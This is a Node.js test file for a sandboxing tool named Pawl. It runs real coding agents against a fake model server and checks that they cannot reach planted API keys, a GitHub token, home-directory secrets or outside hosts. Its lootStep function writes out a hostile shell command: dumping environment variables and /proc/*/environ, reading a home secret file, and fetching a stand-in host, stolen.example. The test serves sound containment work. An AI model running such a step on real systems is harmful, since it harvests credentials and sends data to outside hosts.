// Real coding agents at work in the sandbox, led to the fake model server by Pawl's proxy. None of them sees
// the key, the person's HOME or another host.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';

import { makeWorld, pawl, sourceRoot, startFakeModel } from '../e2e/lib.mjs';

const kKey = 'sk-canary-of-the-person-7c1e5f2b9d';
const folders = ['agents', 'more-agents'].map((name) => (
  path.join(sourceRoot, 'build', 'deps', name, 'node_modules', '.bin')));
const installed = (name) => folders.some((folder) => fs.existsSync(path.join(folder, name)));
const sandbox = spawnSync('/usr/bin/bwrap', ['--unshare-all', '--ro-bind', '/', '/', '/bin/true']).status === 0;
const wantsAll = process.env.PAWL_ALL_AGENTS === '1';

function skipped(name) {
  if (!sandbox) return 'no command can be confined here';
  if (!installed(name)) return `${name} is not installed (./dev test agents installs it)`;
  return false;
}

// The step every agent is told to take: work, and loot of all that is none of its business.
function lootStep(world) {
  return 'echo hello > made.txt; env > loot.txt; cat /proc/*/environ >> loot.txt 2> /dev/null; ' +
    `cat ${world.home}/secret.txt >> loot.txt 2> /dev/null; ls -a ~ >> loot.txt; ` +
    'node -e "fetch(\'http://stolen.example/\').then((r) => r.text()).then(console.log, console.log)" >> loot.txt 2>&1; ' +
    'python3 -c "import urllib.request as r; r.urlopen(\'http://stolen.example/\')" >> loot.txt 2>&1; true';
}

async function tried(spec, steps, flags = []) {
  const world = makeWorld();
  fs.writeFileSync(path.join(world.home, 'secret.txt'), 'canary-of-the-home\n');
  const from = path.join(world.folder, 'from');
  fs.mkdirSync(from);
  fs.writeFileSync(path.join(from, 'README.md'), '# A project\n');
  const model = await startFakeModel(world, [{ steps: steps(world) }], ['--key', kKey]);
  const origin = model.url.replace(/\/v1$/, '');
  Object.assign(world.env, {
    PATH: `${folders.join(':')}:${process.env.PATH}`,
    PAWL_MODEL_BASE_URL: model.url, PAWL_MODEL_API_KEY: kKey,
    PAWL_ANTHROPIC_BASE_URL: origin, PAWL_ANTHROPIC_API_KEY: kKey,
    PAWL_GEMINI_BASE_URL: origin, PAWL_GEMINI_API_KEY: kKey,
    GITHUB_TOKEN: 'ghp_canaryofthegithubtoken0123456789abcd',
  });
  const into = path.join(world.folder, 'into');
  try {
    const done = pawl(world, ['agent', 'try', spec, '--from', from, '--into', into, '--json',
      '--prompt', 'Make the file.', '--wall', '150', '--idle', '100', ...flags]);
    let document = null;
    try { document = JSON.parse(done.out); } catch { /* the assertion shows what there is */ }
    assert.ok(document, done.err.slice(-2000));
    const read = (name) => {
      const file = path.join(into, name);
      return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
    };
    return { done, document, made: read('made.txt'), loot: read('loot.txt'), requests: model.requests() };
  } finally {
    await model.stop();
    world.remove();
  }
}

const kinds = (document, kind) => document.events.filter((event) => event.kind === kind);

const kAgents = [
  { spec: 'claude:fake', program: 'claude', api: 'anthropic' },
  { spec: 'codex:fake', program: 'codex', api: 'responses' },
  { spec: 'copilot:fake', program: 'copilot', api: 'chat' },
  { spec: 'gemini:fake', program: 'gemini', api: 'gemini', more: true },
  { spec: 'opencode:other/fake', program: 'opencode', api: 'chat', more: true },
  { spec: 'opencode:openai/fake', program: 'opencode', api: 'responses', more: true },
  { spec: 'opencode:anthropic/fake', program: 'opencode', api: 'anthropic', more: true },
  { spec: 'opencode:google/fake', program: 'opencode', api: 'gemini', more: true },
  { spec: 'acp:copilot --acp --model fake', program: 'copilot', api: 'chat' },
  { spec: 'acp:gemini --acp -m fake', program: 'gemini', api: 'gemini', more: true },
  { spec: 'acp:opencode acp --model other/fake', program: 'opencode', api: 'chat', more: true },
];

for (const { spec, program, api, more } of kAgents) {
  if (more && !wantsAll) continue;
  test(`${spec} works in the sandbox, led to its model and to nothing else`, { skip: skipped(program) }, async () => {
    const { done, document, made, loot, requests } = await tried(spec, (world) => [
      { text: 'I make it.', shell: lootStep(world) }, { text: 'All is done.' }]);
    assert.equal(document.end, 'done', `${document.reason}\n${done.err.slice(-3000)}`);
    assert.match(document.text, /All is done\./);
    assert.equal(made, 'hello\n');
    assert.match(loot, /pawl-placeholder-/);
    for (const canary of [kKey, 'canary-of-the-home', 'ghp_canary']) {
      assert.ok(!loot.includes(canary), `${canary} was seen`);
    }
    assert.ok(!done.out.includes(kKey));
    // Only what carries the real key gets an answer there.
    assert.ok(requests.length >= 2);
    assert.ok(requests.every((each) => each.status === 200), JSON.stringify(requests.map((each) => each.fault)));
    assert.ok(document.usage.tokens_in > 0 && document.usage.tokens_out > 0);
    assert.ok(document.usage.tool_calls >= 1);
    assert.equal(document.model, 'fake');
    assert.ok(kinds(document, 'agent.call').every((call) => call.data.api === api));
    assert.ok(kinds(document, 'agent.tool').length >= 1);
    // No tool by which the model's server would reach a host.
    assert.ok(requests.every((each) => !JSON.stringify(each.body?.tools ?? []).includes('"type":"web_search')));
    assert.ok(kinds(document, 'agent.refused').some((event) => event.data.what === 'stolen.example'));
  });
}

test('a budget ends a real agent in the middle of an answer, with its work kept', { skip: skipped('claude') }, async () => {
  const { document, made } = await tried('claude:fake', () => [
    { text: 'I make it.', shell: 'echo hello > made.txt' },
    { text: 'word '.repeat(20_000), shell: 'echo more > made.txt', chunk_chars: 4000, stall_ms: 20_000 }],
  ['--max-tokens', '15000']);
  assert.equal(document.end, 'over_budget', document.reason);
  assert.match(document.reason, /the limit of 15000 tokens/);
  assert.equal(made, 'hello\n');
});
